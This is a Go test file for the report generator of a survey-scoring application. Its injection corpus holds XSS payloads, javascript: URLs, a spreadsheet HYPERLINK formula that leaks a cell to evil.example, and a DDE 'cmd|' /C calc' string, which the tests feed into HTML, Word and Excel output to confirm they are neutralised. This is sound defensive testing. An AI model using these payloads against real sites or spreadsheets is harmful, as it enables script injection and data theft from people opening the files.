package reports

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/xml"
	"html"
	"io"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/gongping/gongping/assets/echarts"
	"github.com/gongping/gongping/data"
	"github.com/gongping/gongping/data/check"
	"github.com/gongping/gongping/data/privacy"
	"github.com/gongping/gongping/data/score"
	"github.com/gongping/gongping/reports/dochtml"
	"github.com/xuri/excelize/v2"
	nethtml "golang.org/x/net/html"
)

const IDRemovedText = privacy.IDRemoved

// long is the 40,000-character answer of the corpus; it starts with "=" to be neutralised as well.
var long = "=" + strings.Repeat("长", 39998) + "尾"

// corpus is hostile text pushed through every text field of a report.
var corpus = []string{
	`</script><script>alert(1)</script>`,
	`__f__function(){alert(1)}__f__`,
	`"'><svg onload=alert(1)>`,
	`javascript:alert(1)`,
	`=HYPERLINK("http://evil.example/?"&A1,"点我")`,
	`＝1+1`,
	" \t+cmd|' /C calc'!A0",
	"@SUM(1,1)",
	"－1",
	`<img src=x onerror=alert(1)><a href="//evil.example/x.js">x</a>`,
	`{{.}} ${alert(1)} {a|b} <!-- <base href="http://evil.example/">`,
	"\x00\x07控\x1b制\u2028字符\ufffe",
	long,
}

func fptr(v float64) *float64 { return &v }

// textInput builds an Input whose every text field is s (with a field tag so fields differ).
func textInput(s string) Input {
	sc := score.NewScheme()
	sc.Likert.Labels = map[string]float64{s: 100, "一般": 50}
	sc.Likert.Missing = []string{s}
	res := &score.Result{Policy: 1, Round: s,
		Respondents: score.Respondents{Imported: 10, Valid: 9, Excluded: score.ExcludedCount{Speeders: 1}},
		Composite:   score.Composite{Score: fptr(81.25), Grade: &s},
		Method:      score.Method{Scheme: sc, Sources: score.DefaultSources, IPAMeans: &score.IPAMeans{Importance: 0.5, Performance: 70}},
		Warnings:    []string{s}, Sources: score.SourceCounts{Responses: 10, AssessmentRows: 2, OfficerRows: 1}}
	for i, k := range score.DimensionKeys {
		res.Dimensions = append(res.Dimensions, score.Dimension{Key: k, Name: s, Weight: 1.0 / 3, Score: fptr(70 + float64(i)), Survey: fptr(71),
			N: 9, SatisfactionRate: fptr(0.5), Alpha: fptr(0.81), CI95: &[2]float64{60, 80},
			Indicators: []score.Indicator{{Name: s, Questions: []string{s}, Weight: 1, Score: fptr(55), N: 9, SatisfactionRate: fptr(0.4), CI95: &[2]float64{50, 60}}}})
		res.IPA = append(res.IPA, score.IPAPoint{Indicator: s, Dimension: k, Importance: 0.3 + 0.2*float64(i), Performance: 55 + 10*float64(i), Quadrant: score.QuadrantFix, N: 9})
	}
	res.Problems = []score.Problem{{Item: s, Source: score.SourceSurvey, Incidence: fptr(0.4), Count: 4}, {Item: s, Source: score.SourceAssessment, Count: 1}}
	res.Directions = []score.Direction{{Item: s, Source: score.SourceSurvey, Share: fptr(0.3), Count: 3}}
	ok := false
	return Input{
		Policy:       data.Policy{ID: 1, Title: s, DocNo: s, Dept: s, Category: s, Issued: "2026-04-15"},
		Consultation: &data.Consultation{Start: "2026-02-12", End: "2026-03-13", Channel: s},
		Round:        s, Result: res,
		Checks:    &check.Result{Checks: []check.Item{{Rule: "x", Name: s, OK: &ok, Detail: s}}},
		Survey:    &data.SurveyData{Questions: []data.Question{{Key: "Q1", Text: s, Type: data.QOpenText}}, Responses: []data.Response{{ID: 1, Answers: []string{s}}, {ID: 2, Answers: []string{s}}}},
		Adoptions: []Adoption{{Representative: s, Size: 5, Concentrated: true, Clauses: s, Decision: s, Reason: s}},
		Revisions: []Revision{{Clause: s, Before: s, After: s, Reason: s, Answers: s, Date: "2026-11-20", Diff: []DiffOp{{"=", s}, {"-", s}, {"+", s}}}},
		Generated: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC),
		RawData:   true,
	}
}

var (
	attrURL   = regexp.MustCompile(`(?i)\b(href|src|srcset|action|formaction|poster|data|xlink:href)\s*=\s*["']?\s*(?:[a-z][a-z0-9+.-]*:|//)`)
	anyURL    = regexp.MustCompile(`(?i)(https?|ftp|wss?)://`)
	tagOpen   = regexp.MustCompile(`(?i)<\s*(script|svg|img|iframe|object|embed|link|base|meta|a|form|style|input|video|audio|foreignobject|use|image)\b`)
	allowTags = map[string]int{"meta": 4, "style": 1, "svg": -1} // -1: any number (one per chart)
	cspMeta   = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`)
)

// echartsURLs are the only URL-like strings inside the vendored library: XML namespace names and
// licence links, which no browser fetches.
var echartsURLs = map[string]bool{
	"http://www.w3.org/2000/svg": true, "http://www.w3.org/1999/xlink": true, "http://www.w3.org/XML/1998/namespace": true,
	"http://www.w3.org/2000/xmlns/": true, "http://www.apache.org/licenses/LICENSE-2.0": true,
	"https://github.com/ecomfe/zrender/blob/master/LICENSE.txt": true,
}

// TestVendoredURLs: the vendored library names no URL but XML namespaces and licence links.
func TestVendoredURLs(t *testing.T) {
	for _, u := range regexp.MustCompile(`(?i)(https?|ftp)://[^"'\s)\\]+`).FindAllString(echarts.MinJS, -1) {
		if !echartsURLs[u] {
			t.Errorf("vendored ECharts holds an unexpected URL %q", u)
		}
	}
}

var scriptElement = regexp.MustCompile(`(?is)<script\b[^>]*>(.*?)</script\s*>`)

// pageScripts checks the page's scripts and returns the page without them, for the other checks: a page
// has none, or (live charts) exactly two, the vendored ECharts library byte for byte (whose URLs
// TestVendoredURLs holds to namespaces and licence links) and dochtml.InitScript, in that order, each a
// plain <script> element.
func pageScripts(t *testing.T, page string) (rest string, scripts []string) {
	t.Helper()
	for _, m := range scriptElement.FindAllStringSubmatch(page, -1) {
		if !strings.HasPrefix(m[0], "<script>") {
			t.Errorf("script element with attributes: %.60q", m[0])
		}
		scripts = append(scripts, m[1])
	}
	switch {
	case len(scripts) == 0:
	case len(scripts) == 2 && scripts[0] == echarts.MinJS && scripts[1] == dochtml.InitScript:
	default:
		t.Errorf("page has %d scripts, not none or the ECharts library and the charts' start", len(scripts))
	}
	return scriptElement.ReplaceAllString(page, ""), scripts
}

func scriptHash(s string) string {
	h := sha256.Sum256([]byte(s))
	return "'sha256-" + base64.StdEncoding.EncodeToString(h[:]) + "'"
}

// checkHTMLSafe asserts what DESIGN.md "Publication safety" asks of the page: no script but the ECharts
// library and the charts' start (the charts are static SVG, drawn by ECharts where scripts run), nothing
// that points outside the page, and a CSP that would block both anyway: scripts only by their hashes.
func checkHTMLSafe(t *testing.T, page string) {
	t.Helper()
	page, scripts := pageScripts(t, page)
	if m := anyURL.FindString(page); m != "" {
		i := strings.Index(page, m)
		t.Errorf("external URL in the page: %q", page[max(0, i-60):min(len(page), i+60)])
	}
	if m := attrURL.FindString(page); m != "" {
		t.Errorf("attribute pointing outside the page: %q", m)
	}
	z := nethtml.NewTokenizer(strings.NewReader(page))
	for tt := z.Next(); tt != nethtml.ErrorToken; tt = z.Next() {
		if tt != nethtml.StartTagToken && tt != nethtml.SelfClosingTagToken {
			continue
		}
		name, more := z.TagName()
		for more {
			var k []byte
			k, _, more = z.TagAttr()
			if a := strings.ToLower(string(k)); strings.HasPrefix(a, "on") || a == "style" || a == "href" || a == "src" {
				t.Errorf("<%s> has a %s attribute", name, a)
			}
		}
	}
	for _, bad := range []string{"url(", "@import", "javascript:", "</script", "style=\""} {
		if strings.Contains(strings.ToLower(page), bad) {
			t.Errorf("page contains %q", bad)
		}
	}
	tags := map[string]int{}
	for _, m := range tagOpen.FindAllStringSubmatch(page, -1) {
		tags[strings.ToLower(m[1])]++
	}
	for tag, n := range tags {
		if want, ok := allowTags[tag]; !ok || (want != n && want >= 0) {
			t.Errorf("page has %d <%s> tags, want %d", n, tag, allowTags[tag])
		}
	}
	m := cspMeta.FindStringSubmatch(page)
	if m == nil {
		t.Fatal("page has no Content-Security-Policy")
	}
	csp := html.UnescapeString(m[1])
	if !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "connect-src 'none'") || strings.Contains(csp, "unsafe-") {
		t.Errorf("CSP %q does not forbid loads and inline scripts", csp)
	}
	if len(scripts) == 0 && strings.Contains(csp, "script-src") {
		t.Errorf("CSP %q allows scripts in a page without any", csp)
	}
	if len(scripts) > 0 && (len(scripts) != 2 || !strings.HasSuffix(csp, "; script-src "+scriptHash(scripts[0])+" "+scriptHash(scripts[1])) || strings.Count(csp, "script-src") != 1) {
		t.Errorf("CSP %q does not allow exactly the page's scripts by their hashes", csp)
	}
}

// checkDOCXSafe asserts the Word file is a valid package whose body is well-formed XML with no field
// code but the page number, no external relationship and no macro, and returns its text, one paragraph a line.
func checkDOCXSafe(t *testing.T, b []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("docx is not a zip: %v", err)
	}
	var body []byte
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(rc)
		rc.Close()
		if strings.HasSuffix(f.Name, ".rels") && bytes.Contains(data, []byte(`TargetMode="External"`)) {
			t.Errorf("%s has an external relationship", f.Name)
		}
		if strings.Contains(strings.ToLower(f.Name), "vba") {
			t.Errorf("docx holds %s", f.Name)
		}
		if strings.HasSuffix(f.Name, ".xml") {
			if err := wellFormed(data); err != nil {
				t.Errorf("%s: %v", f.Name, err)
			}
			if bytes.Contains(data, []byte("<w:instrText")) && !bytes.Contains(data, []byte(" PAGE ")) {
				t.Errorf("%s has a field that is not the page number", f.Name)
			}
		}
		if f.Name == "word/document.xml" {
			body = data
		}
	}
	if body == nil {
		t.Fatal("docx has no word/document.xml")
	}
	return docxText(body)
}

func wellFormed(b []byte) error {
	d := xml.NewDecoder(bytes.NewReader(b))
	for {
		_, err := d.Token()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// docxText is the text of a document.xml, one paragraph a line, a tab between table cells.
func docxText(b []byte) string {
	d := xml.NewDecoder(bytes.NewReader(b))
	var out strings.Builder
	in := false
	for {
		tok, err := d.Token()
		if err != nil {
			break
		}
		switch v := tok.(type) {
		case xml.StartElement:
			in = v.Name.Local == "t"
			if v.Name.Local == "tab" || v.Name.Local == "br" {
				out.WriteByte(' ')
			}
		case xml.EndElement:
			in = false
			switch v.Name.Local {
			case "p":
				out.WriteByte('\n')
			case "tc":
				out.WriteByte('\t')
			}
		case xml.CharData:
			if in {
				out.Write(v)
			}
		}
	}
	return out.String()
}

// checkXLSXSafe asserts the workbook rules and returns every row's cells joined by tabs.
func checkXLSXSafe(t *testing.T, path string) []string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", f.Name)
		}
	}
	zr.Close()
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	var out []string
	for _, sh := range x.GetSheetList() {
		rows, err := x.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		for ri, row := range rows {
			for ci, v := range row {
				if dangerous(v) {
					t.Errorf("%s row %d col %d starts like a formula: %.40q", sh, ri+1, ci+1, v)
				}
				if len([]rune(v)) > maxCellUnits {
					t.Errorf("%s row %d col %d is over-long", sh, ri+1, ci+1)
				}
			}
			out = append(out, strings.Join(row, "\t"))
		}
	}
	return out
}

func TestInjectionCorpus(t *testing.T) {
	for _, s := range corpus {
		r := Assemble(textInput(s))
		var hb, db, xb bytes.Buffer
		if err := WriteHTML(&hb, r); err != nil {
			t.Fatal(err)
		}
		checkHTMLSafe(t, hb.String())
		if _, ss := pageScripts(t, hb.String()); len(ss) != 2 {
			t.Errorf("the page's charts are not live (%d scripts)", len(ss))
		}
		if err := WriteDOCX(&db, r); err != nil {
			t.Fatal(err)
		}
		text := checkDOCXSafe(t, db.Bytes())
		if s == long && !strings.Contains(text, strings.Repeat("长", 39998)+"尾") {
			t.Error("40,000-character text was cut in the Word file")
		}
		if err := WriteXLSX(&xb, r); err != nil {
			t.Fatal(err)
		}
		path := t.TempDir() + "/r.xlsx"
		if err := writeFile(path, func(w io.Writer) error { _, err := w.Write(xb.Bytes()); return err }); err != nil {
			t.Fatal(err)
		}
		rows := checkXLSXSafe(t, path)
		if s == long {
			if !hasWhole(rows, "'"+long) {
				t.Error("40,000-character text was cut in the workbook")
			}
			if !strings.Contains(hb.String(), strings.Repeat("长", 39998)+"尾") {
				t.Error("40,000-character text was cut in the page")
			}
		}
		// The text reaches the page intact (shown as text).
		if s == corpus[1] && !strings.Contains(hb.String(), "__f__function(){alert(1)}__f__") {
			t.Error("marker text lost")
		}
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "  =1": "'  =1", "\t+1": "'\t+1", "-1": "'-1", "@x": "'@x", "＝1": "'＝1", "　＋1": "'　＋1",
		"﹦1": "'﹦1", "正常文本": "正常文本", "1=1": "1=1", "": "",
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
	// Split pieces never start like a formula and join back to the neutralised text.
	s := strings.Repeat("a", pieceUnits-1) + "=" + strings.Repeat("=", 300) + strings.Repeat("😀", 20000)
	ps := cellPieces(s)
	if len(ps) < 2 {
		t.Fatalf("%d pieces", len(ps))
	}
	for i, p := range ps {
		if u := len([]rune(p)) + strings.Count(p, "😀"); u > maxCellUnits {
			t.Errorf("piece %d has %d UTF-16 units", i, u)
		}
		if dangerous(p) {
			t.Errorf("piece %d starts like a formula", i)
		}
	}
	if j := strings.Join(ps, ""); strings.ReplaceAll(j, "'", "") != strings.ReplaceAll(s, "'", "") {
		t.Error("pieces do not join back to the text")
	}
}

// hasWhole reports whether some row holds text in one cell or split across continuation cells
// (the pieces are the row's cells containing the text's second character, in order).
func hasWhole(rows []string, text string) bool {
	mark := string([]rune(text)[2])
	for _, row := range rows {
		var b strings.Builder
		for _, c := range strings.Split(row, "\t") {
			if strings.Contains(c, mark) {
				b.WriteString(c)
			}
		}
		if strings.Contains(b.String(), text) {
			return true
		}
	}
	return false
}

// TestUnscoredRound: a round that cannot be scored still gives a whole, safe report that says why.
func TestUnscoredRound(t *testing.T) {
	for _, s := range corpus[:4] {
		in := textInput(s)
		in.Result, in.ScoreError = nil, s
		r := Assemble(in)
		var hb, db, xb bytes.Buffer
		if err := WriteHTML(&hb, r); err != nil {
			t.Fatal(err)
		}
		checkHTMLSafe(t, hb.String())
		if !strings.Contains(hb.String(), "本轮次尚未能计算评价得分") {
			t.Error("the page does not say why there is no score")
		}
		if err := WriteDOCX(&db, r); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(checkDOCXSafe(t, db.Bytes()), "本轮次尚未能计算评价得分") {
			t.Error("the Word file does not say why there is no score")
		}
		if err := WriteXLSX(&xb, r); err != nil {
			t.Fatal(err)
		}
		path := t.TempDir() + "/r.xlsx"
		if err := os.WriteFile(path, xb.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		checkXLSXSafe(t, path)
	}
}
